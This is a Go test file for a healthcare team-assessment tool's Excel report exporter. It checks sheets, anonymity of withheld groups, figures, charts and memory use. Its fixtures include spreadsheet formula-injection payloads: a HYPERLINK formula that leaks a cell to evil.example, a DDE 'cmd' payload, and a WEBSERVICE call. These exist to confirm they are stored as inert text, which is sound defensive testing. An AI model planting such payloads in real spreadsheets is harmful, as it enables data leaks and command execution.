package reports

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"fmt"
	"io"
	"math"
	"regexp"
	"runtime"
	"runtime/debug"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/ecat-project/ecat/assessment"
	"github.com/ecat-project/ecat/locale"
	"github.com/ecat-project/ecat/pillars"
)

var testNow = time.Date(2026, 3, 14, 9, 30, 0, 0, time.UTC)

// injected are texts a spreadsheet would take for formulas if written carelessly.
var injected = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"click me")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1)`,
	`-2+3`,
	`=1+1`,
}

// sampleReport has leadership and staff shown (threshold 3) and patient partners
// withheld, with formula-looking texts among the staff's strengths, opportunities and
// reflections, and SECRET texts in the withheld group.
func sampleReport(t testing.TB) (*Report, *pillars.Instrument) {
	in := instrument(t)
	a := &assessment.Assessment{Title: "Spring review", Team: "Unit 4B", Language: "en", Threshold: 3, Round: 2, InstrumentVersion: in.Version}
	rs := []respondent{
		uniform(in, pillars.Leadership, assessment.Yes, "l1"),
		uniform(in, pillars.Leadership, assessment.Somewhat, "l2"),
		uniform(in, pillars.Leadership, assessment.No, "l3"),
		uniform(in, pillars.Staff, assessment.Yes, "s1"),
		uniform(in, pillars.Staff, assessment.No, "s2"),
		uniform(in, pillars.Staff, assessment.Unknown, "s3"),
		uniform(in, pillars.Staff, assessment.Somewhat, "s4"),
		uniform(in, pillars.PatientPartners, assessment.Yes, "SECRET-ONE"),
		uniform(in, pillars.PatientPartners, assessment.No, "SECRET-TWO"),
	}
	delete(rs[3].answers, "S-02") // one unanswered item
	for i, text := range injected {
		r := uniform(in, pillars.Staff, assessment.Yes, "x")
		r.strength.Text, r.opportunity.Text, r.reflection = text, text, text
		r.strength.Theme = in.Themes[i%len(in.Themes)].Key
		rs = append(rs, r)
	}
	return Build(a, in, tally(in, rs)), in
}

func writeBook(t testing.TB, r *Report, in *pillars.Instrument, lang locale.Lang) ([]byte, *excelize.File) {
	t.Helper()
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, r, in, printerFor(lang), testNow); err != nil {
		t.Fatalf("WriteXLSX: %v", err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("reopen: %v", err)
	}
	t.Cleanup(func() {
		if err := f.Close(); err != nil {
			t.Errorf("close the reopened workbook: %v", err)
		}
	})
	return buf.Bytes(), f
}

// cells calls fn for every non-empty cell of every sheet.
func cells(t testing.TB, f *excelize.File, fn func(sheet, ref, value string)) {
	t.Helper()
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				if v == "" {
					continue
				}
				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
				fn(sheet, ref, v)
			}
		}
	}
}

// zipParts returns the workbook's parts by name.
func zipParts(t testing.TB, raw []byte) map[string]string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}
	parts := map[string]string{}
	for _, zf := range zr.File {
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		if err != nil {
			t.Fatal(err)
		}
		if err := rc.Close(); err != nil {
			t.Fatal(err)
		}
		parts[zf.Name] = string(b)
	}
	return parts
}

func TestXLSXSheetNames(t *testing.T) {
	rep, in := sampleReport(t)
	for _, tt := range []struct {
		lang locale.Lang
		want []string
	}{
		{locale.English, []string{"Summary", "Leadership", "Staff and teams", "Themes", "Strengths & opportunities", "Reflections", "Discussion guide", "Action plan"}},
		{locale.French, []string{"Résumé", "Leadership", "Personnel et équipes", "Thèmes", "Forces et possibilités", "Réflexions", "Guide de discussion", "Plan d'action"}},
	} {
		t.Run(string(tt.lang), func(t *testing.T) {
			_, f := writeBook(t, rep, in, tt.lang)
			if got := f.GetSheetList(); !slices.Equal(got, tt.want) {
				t.Errorf("sheets %q, want %q", got, tt.want)
			}
			if idx := f.GetActiveSheetIndex(); idx != 0 {
				t.Errorf("active sheet %d, want the summary", idx)
			}
		})
	}
	// All three shown: the patient partners sheet appears too.
	all := Build(&assessment.Assessment{Threshold: 1}, in, tally(in, []respondent{
		uniform(in, pillars.Leadership, assessment.Yes, "a"), uniform(in, pillars.Staff, assessment.Yes, "b"), uniform(in, pillars.PatientPartners, assessment.Yes, "c"),
	}))
	_, f := writeBook(t, all, in, locale.French)
	if got := f.GetSheetList(); !slices.Contains(got, "Patients partenaires") || len(got) != 9 {
		t.Errorf("sheets %q", got)
	}
}

// TestXLSXWithheldGroupAbsent: the withheld group has no sheet, no column, and nothing
// its members answered or wrote appears in any cell; the Summary says it is withheld
// and why.
func TestXLSXWithheldGroupAbsent(t *testing.T) {
	rep, in := sampleReport(t)
	for _, lang := range locale.Languages() {
		raw, f := writeBook(t, rep, in, lang)
		l := newLabeler(lang)
		if slices.Contains(f.GetSheetList(), l.T("sheet.pillar.patient_partners")) {
			t.Errorf("%s: withheld pillar has a sheet", lang)
		}
		var withheldIDs []string
		for _, it := range in.Pillar(pillars.PatientPartners).Items() {
			withheldIDs = append(withheldIDs, it.ID)
		}
		title := in.Pillar(pillars.PatientPartners).Title.In(lang)
		summaryNote := false
		cells(t, f, func(sheet, ref, v string) {
			if strings.Contains(v, "SECRET") {
				t.Errorf("%s: %s!%s leaks a withheld text: %q", lang, sheet, ref, v)
			}
			for _, id := range withheldIDs {
				if strings.Contains(v, id) {
					t.Errorf("%s: %s!%s shows withheld item %s: %q", lang, sheet, ref, id, v)
				}
			}
			if v == title && sheet != l.T("sheet.summary") {
				t.Errorf("%s: %s!%s names the withheld pillar: %q", lang, sheet, ref, v)
			}
			if sheet == l.T("sheet.summary") && v == l.F("summary.withheld", title, 3) {
				summaryNote = true
			}
		})
		if !summaryNote {
			t.Errorf("%s: the summary does not say which group is withheld and why", lang)
		}
		// The withheld group's row in the Summary carries no count.
		rows, _ := f.GetRows(l.T("sheet.summary"))
		for _, row := range rows {
			if len(row) > 0 && row[0] == title {
				if len(row) < 3 || row[1] != "" || row[2] != l.F("summary.withheld_group", 3) {
					t.Errorf("%s: summary row of the withheld group %q", lang, row)
				}
			}
		}
		if strings.Contains(string(raw), "SECRET") {
			t.Errorf("%s: a withheld text is somewhere in the file", lang)
		}
	}
}

// TestXLSXPillarFigures checks every item row against the Report.
func TestXLSXPillarFigures(t *testing.T) {
	rep, in := sampleReport(t)
	for _, lang := range locale.Languages() {
		_, f := writeBook(t, rep, in, lang)
		l := newLabeler(lang)
		for _, g := range rep.Groups {
			if g.Withheld {
				continue
			}
			sheet := l.T("sheet.pillar." + g.Pillar)
			rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
			if err != nil {
				t.Fatalf("%s: %v", sheet, err)
			}
			if head := rows[1]; head[colID-1] != l.T("col.id") || head[colYes-1] != l.T("answer.yes") || head[colPctYes-1] != l.F("pct", l.T("answer.yes")) || head[colScore-1] != l.T("col.score") {
				t.Errorf("%s: header %q", sheet, head)
			}
			seen := 0
			for r, row := range rows {
				ir, ok := findItem(g, row)
				if !ok {
					continue
				}
				seen++
				c, p := ir.Counts, ir.Percent
				wantCounts := []int{c.Yes, c.Somewhat, c.No, c.Unknown, c.Unanswered}
				wantPct := []int{p.Yes, p.Somewhat, p.No, p.Unknown, p.Unanswered}
				for i := range 5 {
					if got, err := strconv.Atoi(row[colYes-1+i]); err != nil || got != wantCounts[i] {
						t.Errorf("%s %s count %d = %q, want %d", sheet, ir.ID, i, row[colYes-1+i], wantCounts[i])
					}
					got, err := strconv.ParseFloat(row[colPctYes-1+i], 64)
					if err != nil || math.Round(got*100) != float64(wantPct[i]) {
						t.Errorf("%s %s percent %d = %q, want %d %%", sheet, ir.ID, i, row[colPctYes-1+i], wantPct[i])
					}
				}
				ref, _ := excelize.CoordinatesToCellName(colPctYes, r+1)
				if shown, _ := f.GetCellValue(sheet, ref); shown != fmt.Sprintf("%d%%", p.Yes) {
					t.Errorf("%s!%s shows %q, want %d%%", sheet, ref, shown, p.Yes)
				}
				scoreRef, _ := excelize.CoordinatesToCellName(colScore, r+1)
				typ, _ := f.GetCellType(sheet, scoreRef)
				if ir.Score == nil {
					if len(row) >= colScore && row[colScore-1] != "" {
						t.Errorf("%s %s: score %q, want empty", sheet, ir.ID, row[colScore-1])
					}
					continue
				}
				got, err := strconv.ParseFloat(row[colScore-1], 64)
				if err != nil || got != *ir.Score || (typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber) {
					t.Errorf("%s %s: score %q (type %v), want the number %v", sheet, ir.ID, row[colScore-1], typ, *ir.Score)
				}
				if band := row[colBand-1]; band != l.T("band."+ir.Band) {
					t.Errorf("%s %s: band %q, want %q", sheet, ir.ID, band, l.T("band."+ir.Band))
				}
				if stmt := row[colStatement-1]; stmt != statementIn(in, ir.ID, lang) {
					t.Errorf("%s %s: statement %q", sheet, ir.ID, stmt)
				}
			}
			if seen != len(g.Items) {
				t.Errorf("%s: %d item rows, want %d", sheet, seen, len(g.Items))
			}
		}
	}
}

func statementIn(in *pillars.Instrument, id string, lang locale.Lang) string {
	it, _, _ := in.Item(id)
	return it.Text.In(lang)
}

func findItem(g Group, row []string) (ItemResult, bool) {
	if len(row) < colBand-1 {
		return ItemResult{}, false
	}
	for _, ir := range g.Items {
		if ir.ID == row[colID-1] {
			return ir, true
		}
	}
	return ItemResult{}, false
}

// TestXLSXInjectedTextStaysText: formula-looking texts are stored as strings, read back
// verbatim, and no cell anywhere in the workbook holds a formula.
func TestXLSXInjectedTextStaysText(t *testing.T) {
	rep, in := sampleReport(t)
	rep.Assessment.Title = "=WEBSERVICE(\"http://evil.example\")"
	rep.Assessment.Team = "+1-1"
	raw, f := writeBook(t, rep, in, locale.English)
	found := map[string]int{}
	cells(t, f, func(sheet, ref, v string) {
		if formula, err := f.GetCellFormula(sheet, ref); err != nil || formula != "" {
			t.Errorf("%s!%s holds a formula %q (%v)", sheet, ref, formula, err)
		}
		for _, text := range append(slices.Clone(injected), rep.Assessment.Title, rep.Assessment.Team) {
			if v != text {
				continue
			}
			found[text]++
			typ, _ := f.GetCellType(sheet, ref)
			if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
				t.Errorf("%s!%s = %q has type %v, want a string", sheet, ref, v, typ)
			}
			if shown, _ := f.GetCellValue(sheet, ref); shown != text {
				t.Errorf("%s!%s reads back %q, want %q", sheet, ref, shown, text)
			}
		}
	})
	for _, text := range injected {
		// As a strength, an opportunity and a reflection, at least.
		if found[text] < 3 {
			t.Errorf("%q found in %d cells, want at least 3", text, found[text])
		}
	}
	if found[rep.Assessment.Title] == 0 || found[rep.Assessment.Team] == 0 {
		t.Errorf("assessment title/team not found as text: %v", found)
	}
	for name, part := range zipParts(t, raw) {
		if strings.HasPrefix(name, "xl/worksheets/") && strings.Contains(part, "<f>") {
			t.Errorf("%s contains a formula element", name)
		}
	}
}

func TestXLSXActionPlanStatusList(t *testing.T) {
	rep, in := sampleReport(t)
	for _, lang := range locale.Languages() {
		_, f := writeBook(t, rep, in, lang)
		l := newLabeler(lang)
		sheet := l.T("sheet.actions")
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		want := []string{l.T("col.action"), l.T("col.pillar_theme"), l.T("col.lead"), l.T("col.support"), l.T("col.due"), l.T("col.status")}
		if !slices.Equal(rows[1], want) {
			t.Errorf("%s: header %q, want %q", lang, rows[1], want)
		}
		dvs, err := f.GetDataValidations(sheet)
		if err != nil || len(dvs) != 1 {
			t.Fatalf("%s: data validations %v, %v", lang, dvs, err)
		}
		dv := dvs[0]
		statuses := strings.Join([]string{l.T("status.planned"), l.T("status.in_progress"), l.T("status.done"), l.T("status.dropped")}, ",")
		if dv.Type != "list" || dv.Formula1 != `"`+statuses+`"` {
			t.Errorf("%s: validation type %q formula %q, want list %q", lang, dv.Type, dv.Formula1, statuses)
		}
		if dv.Sqref != fmt.Sprintf("F3:F%d", 2+actionRows) {
			t.Errorf("%s: validation on %q", lang, dv.Sqref)
		}
	}
}

func TestXLSXLayoutAndProperties(t *testing.T) {
	rep, in := sampleReport(t)
	for _, lang := range locale.Languages() {
		_, f := writeBook(t, rep, in, lang)
		for _, sheet := range f.GetSheetList() {
			panes, err := f.GetPanes(sheet)
			if err != nil || !panes.Freeze || panes.YSplit < 1 {
				t.Errorf("%s %s: panes %+v, %v", lang, sheet, panes, err)
			}
			pl, err := f.GetPageLayout(sheet)
			if err != nil || *pl.Orientation != "landscape" || pl.FitToWidth == nil || *pl.FitToWidth != 1 || pl.FitToHeight == nil || *pl.FitToHeight != 0 {
				t.Errorf("%s %s: page layout %+v, %v", lang, sheet, pl, err)
			}
			props, err := f.GetSheetProps(sheet)
			if err != nil || props.FitToPage == nil || !*props.FitToPage {
				t.Errorf("%s %s: not fitted to page", lang, sheet)
			}
		}
		p, err := f.GetDocProps()
		if err != nil {
			t.Fatal(err)
		}
		l := newLabeler(lang)
		if p.Title != l.F("doc.title", "Spring review") || p.Creator != "ecat" || p.Language != string(lang) || !strings.HasPrefix(p.Created, "2026-03-14T09:30:00") {
			t.Errorf("%s: doc properties %+v", lang, p)
		}
		summary := l.T("sheet.summary")
		if v, _ := f.GetCellValue(summary, "A1"); v != l.T("summary.heading") {
			t.Errorf("%s: summary title %q", lang, v)
		}
	}
}

// TestXLSXWellFormedParts checks what excelize does not check on reopening but Excel
// does: every part is well-formed XML, and each sheet's columns are listed in ascending
// order.
func TestXLSXWellFormedParts(t *testing.T) {
	rep, in := sampleReport(t)
	raw, _ := writeBook(t, rep, in, locale.French)
	checkParts(t, raw)
}

// checkParts checks that every part of a workbook is well-formed XML and that each
// sheet lists its columns in ascending order.
func checkParts(t *testing.T, raw []byte) {
	t.Helper()
	colMin := regexp.MustCompile(`<col [^>]*?min="(\d+)"`)
	for name, part := range zipParts(t, raw) {
		if !strings.HasSuffix(name, ".xml") && !strings.HasSuffix(name, ".rels") {
			continue
		}
		dec := xml.NewDecoder(strings.NewReader(part))
		for {
			if _, err := dec.Token(); err == io.EOF {
				break
			} else if err != nil {
				t.Errorf("%s: %v", name, err)
				break
			}
		}
		if !strings.HasPrefix(name, "xl/worksheets/sheet") {
			continue
		}
		last := 0
		for _, m := range colMin.FindAllStringSubmatch(part, -1) {
			n, _ := strconv.Atoi(m[1])
			if n <= last {
				t.Errorf("%s: columns out of order (%d after %d)", name, n, last)
			}
			last = n
		}
		if last == 0 {
			t.Errorf("%s: no column widths", name)
		}
	}
}

// TestXLSXChartsAndColours: each pillar sheet has a stacked bar chart of the answers
// and band colours on its scores; the Themes heatmap has them too.
func TestXLSXChartsAndColours(t *testing.T) {
	rep, in := sampleReport(t)
	raw, f := writeBook(t, rep, in, locale.English)
	parts := zipParts(t, raw)
	shown := 0
	for _, g := range rep.Groups {
		if !g.Withheld {
			shown++
		}
	}
	charts := 0
	for name, part := range parts {
		if strings.HasPrefix(name, "xl/charts/chart") && strings.HasSuffix(name, ".xml") {
			charts++
			// Bars named by the hidden chart-label column, which the chart still plots.
			for _, want := range []string{`<barDir val="bar">`, `<grouping val="percentStacked">`, `!$E$2</f>`, `!$Q$3:$Q$18</f>`, `<plotVisOnly val="0"`} {
				if !strings.Contains(part, want) {
					t.Errorf("%s lacks %s", name, want)
				}
			}
		}
	}
	if charts != shown {
		t.Errorf("%d charts, want one per shown pillar (%d)", charts, shown)
	}
	l := newLabeler(locale.English)
	for _, g := range rep.Groups {
		if g.Withheld {
			continue
		}
		sheet := l.T("sheet.pillar." + g.Pillar)
		path, ok := sheetPart(f, sheet)
		if !ok || !strings.Contains(parts[path], "<drawing") {
			t.Errorf("%s (%s) has no drawing", sheet, path)
		}
		cf, err := f.GetConditionalFormats(sheet)
		if err != nil || len(cf) < 3 { // items, sections, themes
			t.Errorf("%s: conditional formats %v, %v", sheet, cf, err)
		}
		for ref, rules := range cf {
			if len(rules) != 3 {
				t.Errorf("%s %s: %d rules, want 3 bands", sheet, ref, len(rules))
			}
		}
	}
	if cf, err := f.GetConditionalFormats(l.T("sheet.themes")); err != nil || len(cf) != 1 {
		t.Errorf("themes heatmap: conditional formats %v, %v", cf, err)
	}
	// The heatmap: one column per shown pillar, then team and gap.
	rows, _ := f.GetRows(l.T("sheet.themes"))
	if want := []string{"Theme", "Leadership", "Staff and healthcare teams", "Team", "Gap (points)", "Widest gap between"}; !slices.Equal(rows[1], want) {
		t.Errorf("heatmap header %q, want %q", rows[1], want)
	}
	if len(rows) < 2+len(in.Themes) {
		t.Fatalf("heatmap has %d rows", len(rows))
	}
	for i, th := range in.Themes {
		row := rows[2+i]
		if row[0] != th.Title.EN {
			t.Errorf("heatmap row %d: %q", i, row)
		}
		if want := teamTheme(rep, th.Key); want != nil && row[3] != strconv.FormatFloat(*want, 'f', 1, 64) {
			t.Errorf("team %s = %q, want %v", th.Key, row[3], *want)
		}
	}
}

// sheetPart finds the zip part of a sheet through the workbook's relationships.
func sheetPart(f *excelize.File, sheet string) (string, bool) {
	for id, name := range f.GetSheetMap() {
		if name == sheet {
			return fmt.Sprintf("xl/worksheets/sheet%d.xml", id), true
		}
	}
	return "", false
}

func TestXLSXVerbatimsAndGuide(t *testing.T) {
	rep, in := sampleReport(t)
	_, f := writeBook(t, rep, in, locale.English)
	rows, _ := f.GetRows("Strengths & opportunities")
	var strengths, opportunities int
	for _, row := range rows[2:] {
		if len(row) == 4 && row[0] == "Key strength" {
			strengths++
		}
		if len(row) == 4 && row[0] == "Opportunity" {
			opportunities++
		}
	}
	var want int
	for _, g := range rep.Groups {
		want += len(g.Strengths)
	}
	if strengths != want || opportunities != want {
		t.Errorf("%d strengths and %d opportunities listed, want %d each", strengths, opportunities, want)
	}
	rows, _ = f.GetRows("Reflections")
	texts := 0
	for _, row := range rows[2:] {
		if len(row) == 2 && strings.HasPrefix(row[1], "reflection: ") {
			texts++
		}
	}
	if texts != 7 { // 3 leadership + 4 staff
		t.Errorf("%d reflections, want 7", texts)
	}
	rows, _ = f.GetRows("Discussion guide")
	var steps []string
	for _, row := range rows[2:] {
		if len(row) > 0 && row[0] != "" {
			steps = append(steps, row[0])
		}
	}
	if want := []string{"1. Framing (2 min)", "2. Round of insights (6–8 min)", "3. Strengths and opportunities (5 min)", "4. Decide (5 min)"}; !slices.Equal(steps, want) {
		t.Errorf("agenda steps %q", steps)
	}
	var all strings.Builder
	for _, row := range rows {
		all.WriteString(strings.Join(row, " ") + "\n")
	}
	for _, want := range []string{"Leadership (3)", "Not shown, to protect anonymity: Patient partners", "Action plan sheet", "Where many answered Unknown:"} {
		if !strings.Contains(all.String(), want) {
			t.Errorf("discussion guide lacks %q:\n%s", want, all.String())
		}
	}
}

// TestXLSXAllWithheld: with no group shown the workbook still opens and says so.
func TestXLSXAllWithheld(t *testing.T) {
	in := instrument(t)
	rep := Build(&assessment.Assessment{Title: "Tiny", Threshold: 3}, in, tally(in, []respondent{uniform(in, pillars.Staff, assessment.Yes, "SECRET")}))
	_, f := writeBook(t, rep, in, locale.English)
	if got, want := f.GetSheetList(), []string{"Summary", "Themes", "Strengths & opportunities", "Reflections", "Discussion guide", "Action plan"}; !slices.Equal(got, want) {
		t.Errorf("sheets %q", got)
	}
	cells(t, f, func(sheet, ref, v string) {
		if strings.Contains(v, "SECRET") {
			t.Errorf("%s!%s leaks %q", sheet, ref, v)
		}
	})
}

func TestXLSXNeedsReport(t *testing.T) {
	in := instrument(t)
	if err := WriteXLSX(io.Discard, nil, in, printerFor(locale.English), testNow); err == nil {
		t.Error("nil report accepted")
	}
	if err := WriteXLSX(io.Discard, &Report{}, nil, printerFor(locale.English), testNow); err == nil {
		t.Error("nil instrument accepted")
	}
}

func TestSheetName(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"Summary", "Summary"},
		{"a/b\\c[d]e:f*g?h", "a-b-c-d-e-f-g-h"},
		{"'quoted'", "quoted"},
		{"", "-"},
		{strings.Repeat("é", 40), strings.Repeat("é", 31)},
	} {
		if got := sheetName(tt.in); got != tt.want {
			t.Errorf("sheetName(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	b := &book{names: map[string]bool{}}
	if a, c := b.uniqueName("Themes"), b.uniqueName("themes"); a != "Themes" || c != "themes (2)" {
		t.Errorf("unique names %q, %q", a, c)
	}
	if got := b.uniqueName("History"); got != "History (2)" {
		t.Errorf("a unit named History makes sheet %q, which Excel keeps for itself", got)
	}
}

// largeReport is one pillar answered by n respondents, each with a reflection,
// a strength and an opportunity.
func largeReport(t testing.TB, n int) (*Report, *pillars.Instrument) {
	in := instrument(t)
	answers := []assessment.Answer{assessment.Yes, assessment.Somewhat, assessment.No, assessment.Unknown}
	rs := make([]respondent, 0, n)
	for i := range n {
		r := uniform(in, pillars.Staff, answers[i%4], fmt.Sprintf("respondent %d wrote a few words about working with patient partners", i))
		r.strength.Theme = in.Themes[i%len(in.Themes)].Key
		rs = append(rs, r)
	}
	return Build(&assessment.Assessment{Title: "Large", Team: "Hospital", Threshold: 3, Round: 1}, in, tally(in, rs)), in
}

func TestXLSXLarge(t *testing.T) {
	if testing.Short() {
		t.Skip("large export")
	}
	rep, in := largeReport(t, 10_000)
	// The sheets are streamed, not held as cell models: writing 10,000 respondents'
	// texts allocates a few tens of MB. Reading a flushed sheet back into the model (as
	// a late SetActiveSheet did) took it past 300 MB.
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	if err := WriteXLSX(io.Discard, rep, in, printerFor(locale.English), testNow); err != nil {
		t.Fatal(err)
	}
	runtime.ReadMemStats(&after)
	if mb := (after.TotalAlloc - before.TotalAlloc) >> 20; mb > 150 && !raceEnabled() {
		t.Errorf("writing 10,000 respondents allocated %d MB", mb)
	}
	raw, f := writeBook(t, rep, in, locale.English)
	t.Logf("workbook of 10,000 respondents: %d kB", len(raw)>>10)
	rows, err := f.Rows("Reflections")
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for rows.Next() {
		n++
	}
	if err := rows.Error(); err != nil {
		t.Fatal(err)
	}
	if err := rows.Close(); err != nil {
		t.Fatal(err)
	}
	if n < 10_000 {
		t.Errorf("reflections sheet has %d rows, want at least 10000", n)
	}
}

// raceEnabled reports whether the test binary runs under the race detector, whose
// instrumentation multiplies allocations.
func raceEnabled() bool {
	if bi, ok := debug.ReadBuildInfo(); ok {
		for _, s := range bi.Settings {
			if s.Key == "-race" {
				return s.Value == "true"
			}
		}
	}
	return false
}

func BenchmarkWriteXLSX10k(b *testing.B) {
	rep, in := largeReport(b, 10_000)
	b.ReportAllocs()
	for b.Loop() {
		if err := WriteXLSX(io.Discard, rep, in, printerFor(locale.English), testNow); err != nil {
			b.Fatal(err)
		}
	}
}
